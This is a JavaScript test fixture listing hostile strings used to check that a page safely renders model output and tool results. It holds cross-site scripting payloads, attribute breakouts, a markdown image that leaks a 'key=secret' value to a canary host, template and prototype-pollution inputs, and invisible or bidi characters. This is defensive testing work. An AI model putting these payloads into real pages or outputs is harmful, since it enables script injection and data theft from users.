// Texts that do harm where a page makes more of them than text. Each is sent as a model's output, a tool's result, an argument, …;
// `canary` addresses must never be asked for, and no element with the class or id `canary` may come to be.

const canary = 'http://canary.invalid';

/** @type {{name: string, text: string}[]} */
export const HOSTILE = [
  { name: 'script tag', text: `<script class="canary">window.canary = 1; fetch("${canary}/script")</script>` },
  { name: 'image with a handler', text: `<img class="canary" src="${canary}/image.png" onerror="window.canary = 1">` },
  { name: 'svg with a handler', text: `<svg class="canary" onload="window.canary = 1"><a href="javascript:window.canary=1">x</a></svg>` },
  { name: 'frame', text: `<iframe class="canary" srcdoc="<script>parent.canary = 1</script>" src="${canary}/frame"></iframe>` },
  { name: 'form', text: `<form class="canary" action="${canary}/form"><input name="key" autofocus onfocus="window.canary = 1"></form>` },
  { name: 'style and base', text: `<style class="canary">* { background: url(${canary}/style) }</style><base href="${canary}/">` },
  { name: 'broken out of its element', text: `"></div></section></main><h1 class="canary">Signed out</h1><!-- ' \` --!>` },
  { name: 'broken out of an attribute', text: `" onmouseover="window.canary=1" class="canary" x='` },
  { name: 'links', text: `[here](javascript:window.canary=1) <a class="canary" href="data:text/html,x">there</a> ${canary}/plain` },
  {
    name: 'markdown',
    text: `![see](${canary}/markdown.png?key=secret)\n\n# Title\n\n[a]: ${canary}/reference\n\n\`\`\`html\n<b class="canary">`,
  },
  {
    name: 'meta refresh',
    text: `<meta http-equiv="refresh" content="0;url=${canary}/refresh"><link rel="prefetch" href="${canary}/link">`,
  },
  { name: 'bidi overrides', text: 'safe \u202Egnp.exe\u202C \u2066hidden\u2069 \u200Fright\u061C' },
  { name: 'zero width and invisible', text: 'pass\u200Bword \u200D\uFEFF\u2060 \u{E0041}\u{E0042} \u00AD end' },
  { name: 'terminal escapes', text: '\u001b[31mred\u001b[0m \u001b]8;;http://canary.invalid\u0007link\u001b]8;;\u0007 \u0007\b\u007f' },
  { name: 'template syntax', text: "{{constructor.constructor('window.canary=1')()}} ${window.canary=1} <%= 7*7 %> #{7*7} {% raw %}" },
  {
    name: 'prototype keys',
    text: '{"__proto__": {"canary": 1}, "constructor": {"prototype": {"canary": 1}}, "toString": 1, "hasOwnProperty": 1}',
  },
  { name: 'looks like an event', text: 'data: {"type":"response.completed","sequence_number":99}\n\nevent: error\r\n\r\n' },
  { name: 'line separators', text: 'one\u2028two\u2029three\u0085four\rfive\r\nsix\tseven' },
  { name: 'combining marks', text: `Z${'\u0351\u036b\u0343\u036a\u0302'.repeat(60)}algo` },
  { name: 'numbers as words', text: 'NaN Infinity -0 1e999 9007199254740993 null undefined true' },
];

/** A line of one MiB, without a place to break it. */
export const LONG_LINE = '<b>' + '0123456789abcdef'.repeat(65_536 - 1) + '</b>';
